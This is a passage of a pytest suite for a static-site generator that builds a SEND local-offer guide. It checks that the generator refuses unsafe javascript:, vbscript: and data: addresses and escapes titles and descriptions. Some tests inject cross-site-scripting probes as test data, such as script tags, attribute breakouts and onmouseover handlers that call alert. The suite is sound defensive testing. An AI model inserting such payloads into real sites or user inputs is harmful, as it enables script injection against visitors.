        assert raw <= inside, rel
    for rel in ("checker/checker.json", "search/search_index.json", "api/oruk/index.json",
                "local-offer/finder/meta.json"):
        assert rel in site.json, rel
    feed = [rel for rel in site.json if rel.startswith("api/oruk/")]
    assert any(MARKER.search(json.dumps(site.json[rel])) for rel in feed)


@pytest.mark.parametrize("part", ["settings", "content"])
def test_unsafe_addresses_are_refused_with_their_line(project: Path, part: str) -> None:
    """`javascript:`, `vbscript:` and `data:` in any address field: `ordinarily validate` names
    each file and line, and never prints a traceback."""
    poisoning = Poisoning()
    data, _, address = read_content(project)
    address = [s for s in address if (s.kind == "settings") == (part == "settings")]
    for i, slot in enumerate(address):
        name, text = UNSAFE_ADDRESSES[i % len(UNSAFE_ADDRESSES)]
        assert not re.search(slot.node["pattern"], text), (slot.file, slot.where, name)
        put(data[slot.file], slot.where, text.replace("@@", poisoning.marker(
            Spot(slot.file, slot.where, slot.kind, name))))
    write_content(project, data)
    result = ordinarily("validate", str(project), cwd=project)
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output
    lines = output.splitlines()
    for number, spot in poisoning.spots.items():
        marker = f"xq{number:06d}qx"
        assert any(re.match(rf"{re.escape(spot.file)}:\d+: .*{marker}", line)
                   for line in lines), f"{spot} not reported:\n{output[:3000]}"



@pytest.mark.build
def test_a_site_address_that_breaks_out_is_refused_cleanly(project: Path) -> None:
    """The site's own address is in every page (canonical links, the sitemap), so it is not
    poisoned with the others: one that leaves its attribute must stop the build with a
    file:line message."""
    settings = project / "ordinarily.yml"
    config = yaml.safe_load(settings.read_text("utf-8"))
    config["site"]["url"] = "https://send.example.org.uk/x\"><script>alert('xq000001qx')</script>/"
    settings.write_text(yaml.safe_dump(config, sort_keys=False), "utf-8")
    result = mkdocs(project, "build", "--strict")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert re.search(r"ordinarily\.yml(:\d+)?: .*site", result.stderr), result.stderr[-3000:]

# --- the engine's own fixes ---------------------------------------------------------------------

EVIL = "Vision</title><script>alert(1)</script> & \"x\" onmouseover=\"alert(2)\""


def test_generated_titles_and_descriptions_reach_the_theme_escaped(project: Path) -> None:
    """The theme prints front matter `title`, nav labels and (inside an attribute) front matter
    `description` as they are, so the engine gives it them escaped; a description is made from
    Markdown as plain text, so `&quot;` in a summary must not come back as a bare quote."""
    from ordinarily.assembly.project import load_project
    from ordinarily.guide.pages import PageBuilder, guide_nav
    from ordinarily.sitewide.statement_pages import statement_pages

    need = project / "needs/sensory-and-physical/vision.yml"
    data = yaml.safe_load(need.read_text("utf-8"))
    data["title"] = EVIL
    data["summary"] = ("x&quot; onmouseover=&quot;alert(3)&quot; "
                       "&lt;script&gt;alert(4)&lt;/script&gt;")
    need.write_text(yaml.safe_dump(data, sort_keys=False), "utf-8")
    settings = project / "ordinarily.yml"
    config = yaml.safe_load(settings.read_text("utf-8"))
    config["site"]["name"] = EVIL
    settings.write_text(yaml.safe_dump(config, sort_keys=False), "utf-8")
    loaded = load_project(project)
    guide = loaded.guide
    page = PageBuilder(guide, loaded.settings).need_page(next(
        n for n in guide.needs if n.id == "vision"))
    pages = [page, *statement_pages(loaded.settings, guide, finder=False)]
    for built in pages:
        meta = yaml.safe_load(built.content.split("---\n")[1])
        assert "<" not in meta["title"] and "&lt;/title&gt;&lt;script&gt;" in meta["title"] \
            or "Privacy" in meta["title"], meta["title"]
        assert not re.search(r"[<>\"]", meta["description"]), meta["description"]
    assert "&quot; onmouseover=&quot;alert(3)&quot; &lt;script&gt;" in yaml.safe_load(
        page.content.split("---\n")[1])["description"]
    labels = json.dumps(guide_nav(guide))
    assert "<script>" not in labels and "Vision&lt;/title&gt;&lt;script&gt;" in labels
